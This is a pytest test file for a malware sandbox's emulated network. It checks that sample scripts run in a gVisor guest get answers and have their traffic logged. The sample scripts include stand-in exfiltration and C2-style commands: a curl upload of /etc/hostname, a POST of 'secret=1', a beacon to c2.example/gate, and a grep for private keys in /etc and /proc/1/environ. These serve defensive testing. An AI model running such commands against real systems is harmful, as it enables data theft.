"""The web that guests meet over TLS: pages for every name, and what is asked is told."""

from __future__ import annotations

import pytest

from gateway.emulation import Behaviour, Budget, Context, Detonation, Gvisor, Sample
from tests.net.gvisor_fixtures import guest_root, make_gvisor

pytestmark = pytest.mark.root

gvisor = pytest.fixture(scope="module")(make_gvisor)

_PYTHON = """import urllib.request as web
print(web.urlopen("https://py.example/a.py", data=b"secret=1").read())"""


def _run(gvisor: Gvisor, text: str, kind: str = "sh") -> Detonation:
    if not (guest_root() / "root/usr/bin/node").exists():
        pytest.skip("the guest root is older than its recipe: python -m tools.guestroot")
    return gvisor.detonate(Sample(f"s.{kind}", kind, text.encode()), Context(), Budget(seconds=60))


def _seen(result: Detonation, action: str) -> list[tuple[str, tuple[str, ...]]]:
    def of(behaviour: Behaviour) -> tuple[str, tuple[str, ...]]:
        return behaviour.target, behaviour.arguments

    return [of(each) for each in result.behaviours if each.action == action]


@pytest.mark.parametrize(
    ("kind", "script", "address", "words", "printed"),
    [
        ("python", _PYTHON, "https://py.example/a.py", ("POST", "secret=1"), "b'pass\\n'"),
        (
            "sh",
            "#!/bin/sh\nexec env -i /usr/bin/python3 -c 'import urllib.request as web\n"
            'print(web.urlopen("https://bare.example/").status)\'\n',
            "https://bare.example/",
            ("GET",),
            "200",
        ),
        (
            "sh",
            "#!/bin/sh\ncurl -fsS -T /etc/hostname https://curl.example/up.json\n",
            "https://curl.example/up.json",
            ("PUT", "desk-17\n"),
            "{}",
        ),
        (
            "sh",
            "#!/bin/sh\nwget -qO- https://203.0.113.7/notes.txt\n",
            "https://203.0.113.7/notes.txt",
            ("GET",),
            "ok",
        ),
        (
            "sh",
            "#!/bin/sh\n(printf 'GET /old HTTP/1.0\\r\\n\\r\\n'; sleep 2) | openssl s_client -quiet"
            " -verify_return_error -tls1_2 -servername ssl.example -connect ssl.example:443\n",
            "https://ssl.example/old",
            ("GET",),
            "exit 0",
        ),
        (
            "perl",
            "use HTTP::Tiny;\nprint HTTP::Tiny->new(verify_SSL => 1)"
            "->get('https://perl.example/x.pl')->{content};\n",
            "https://perl.example/x.pl",
            ("GET",),
            "1;",
        ),
        (
            "javascript",
            "fetch('https://node.example/x.json').then(r => r.text()).then(t => console.log(t));\n",
            "https://node.example/x.json",
            ("GET",),
            "{}",
        ),
    ],
    ids=["python", "python-without-environment", "curl", "wget", "openssl", "perl", "node"],
)
def test_pages_over_tls_are_answered_and_written_down(
    gvisor: Gvisor, kind: str, script: str, address: str, words: tuple[str, ...], printed: str
) -> None:
    """Every program trusts what it is shown, by its own defaults, and asks for what it wants."""
    result = _run(gvisor, script, kind)
    assert _seen(result, "request") == [(address, words)], (
        result.output,
        result.stopped_by,
        result.exit_status,
    )
    assert printed in result.output.decode()


_ELSEWHERE = """import smtplib, socket, time, urllib.request as web
print(web.urlopen("http://odd.example:8080/x.txt").read())
print(web.urlopen("https://odd.example:8443/x.txt").read())
with socket.create_connection(("203.0.113.9", 31337), 20) as line:
    print("greeted with", line.recv(9))
with socket.create_connection(("chat.example", 6667), 20) as line:
    line.sendall(b"NICK a\\r\\n")
    print("answered with", line.recv(9))
with smtplib.SMTP("relay.example", 587) as relay:
    relay.login("me", "word")
    print(relay.sendmail("a@x.example", ["b@y.example"], "Subject: x\\n\\nQUIT\\n.\\n"))
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagrams.settimeout(0.3)
datagrams.connect(("203.0.113.4", 5353))
for _ in range(9):
    datagrams.send(bytes(1000))
try:
    datagrams.recv(9)
except TimeoutError:
    print("silence")
line = socket.create_connection(("203.0.113.9", 4445))
line.sendall(b"the last words")
"""


def test_every_other_port_takes_what_is_said_and_writes_it_down(gvisor: Gvisor) -> None:
    result = _run(gvisor, _ELSEWHERE, "python")
    said = result.output.decode()
    assert said.split("\n")[:-1] == [
        *("b'ok\\n'", "b'ok\\n'", "greeted with b''", "answered with b''", "{}", "silence")
    ], said
    assert [target for target, _ in _seen(result, "request")] == [
        "http://odd.example:8080/x.txt",
        "https://odd.example:8443/x.txt",
    ]
    chat, mail, last = _seen(result, "speak")
    assert chat == ("chat.example:6667", ("NICK a\r\n",))
    assert mail[0] == "relay.example:587" and "AUTH PLAIN AG1lAHdvcmQ=" in mail[1][0]
    assert last == ("203.0.113.9:4445", ("the last words",))
    assert ("203.0.113.4:5353", ()) in _seen(result, "connect")


def test_a_name_service_elsewhere_is_ours_too(gvisor: Gvisor) -> None:
    result = _run(
        gvisor,
        "import socket\nq = bytes.fromhex('123401000001000000000000036162630765786d61706c6500')\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.settimeout(20)\n"
        "u.sendto(q + bytes([0, 1, 0, 1]), ('8.8.8.8', 53))\nprint(u.recvfrom(500)[1])\n",
        "python",
    )
    assert b"('8.8.8.8', 53)" in result.output
    assert [target for target, _ in _seen(result, "resolve")] == ["abc.exmaple"]


def test_ports_of_the_guest_itself_are_as_the_sample_left_them(gvisor: Gvisor) -> None:
    """Nobody answers for a service on the same machine, and the sample's own one answers itself."""
    result = _run(
        gvisor,
        "import socket\nfor host in ('127.0.0.1', '0.0.0.0', 'localhost'):\n"
        "    print(socket.socket().connect_ex((host, 5432)) != 0)\n"
        "own = socket.create_server(('127.0.0.1', 9000))\n"
        "line = socket.create_connection(('127.0.0.1', 9000))\n"
        "own.accept()[0].send(b'own')\nprint(line.recv(9))\n",
        "python",
    )
    assert result.output.decode() == "True\nTrue\nTrue\nb'own'\n"
    asked = [target for target, _ in _seen(result, "connect")]
    assert {"127.0.0.1:5432", "0.0.0.0:5432"} <= set(asked)


def test_who_refuses_the_certificate_is_known_by_the_name_he_asked_for(gvisor: Gvisor) -> None:
    result = _run(
        gvisor,
        "import socket, ssl\n"
        "for version in (ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3):\n"
        "    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"
        "    context.minimum_version = context.maximum_version = version\n"
        "    line = socket.create_connection(('203.0.113.9', 443))\n"
        "    try:\n"
        "        context.wrap_socket(line, server_hostname=f'{version.name.lower()}.example')\n"
        "    except ssl.SSLCertVerificationError:\n"
        "        print('refused')\n",
        "python",
    )
    assert result.output.count(b"refused") == 2, result.output
    refused = ("TLS", "the certificate was refused")
    assert _seen(result, "handshake") == [
        ("tlsv1_2.example:443", refused),
        ("tlsv1_3.example:443", refused),
    ]
    assert _seen(result, "request") == []


def test_the_network_outlives_visitors_who_say_nothing_sensible(gvisor: Gvisor) -> None:
    """Process 1 is the network: what is sent to it must neither end nor stop it."""
    result = _run(
        gvisor,
        "import os, socket, urllib.request\n"
        "held = []\n"
        "hello = b'\\x16\\3\\1'\n"
        "for said in (b'', b'x', b'\\x16', hello + b'\\0\\5\\1\\0\\0\\1\\3', hello + bytes(99),\n"
        "             hello + b'\\xff\\xff', hello + b'\\0\\x90\\1' + os.urandom(0x8f),\n"
        "             bytes(7000), b'GET / HTTP/1.1\\r\\n'):\n"
        "    for port in (80, 443):\n"
        "        line = socket.create_connection(('203.0.113.9', port))\n"
        "        try:\n"
        "            line.sendall(said)\n"
        "        except OSError:\n"
        "            pass\n"
        "        held.append(line)\n"
        "print(urllib.request.urlopen('https://after.example/a.txt').read())\n",
        "python",
    )
    assert b"b'ok\\n'" in result.output
    assert ("https://after.example/a.txt", ("GET",)) in _seen(result, "request")


def test_the_sample_that_never_sends_its_body_is_answered(gvisor: Gvisor) -> None:
    result = _run(
        gvisor,
        "import socket\nline = socket.create_connection(('203.0.113.9', 80))\n"
        "line.sendall(b'POST /gate HTTP/1.1\\r\\nHost: c2.example\\r\\n'\n"
        "    b'Content-Length: 99\\r\\n\\r\\nid=')\n"
        "print(line.recv(99)[:15])\n",
        "python",
    )
    assert b"HTTP/1.1 200 OK" in result.output
    assert _seen(result, "request") == [("http://c2.example/gate", ("POST", "id="))]


def test_the_authoritys_key_is_not_in_the_guest(gvisor: Gvisor) -> None:
    """What guests trust can only be signed by the host."""
    result = _run(
        gvisor,
        "#!/bin/sh\nopenssl x509 -noout -subject -in /etc/ssl/certs/ca-certificates.crt\n"
        "grep -rl PRIVATE /etc /run /tmp /proc/1/cmdline /proc/1/environ 2>/dev/null\nexit 0\n",
    )
    assert result.output == b"subject=CN = Public Web Root\n"
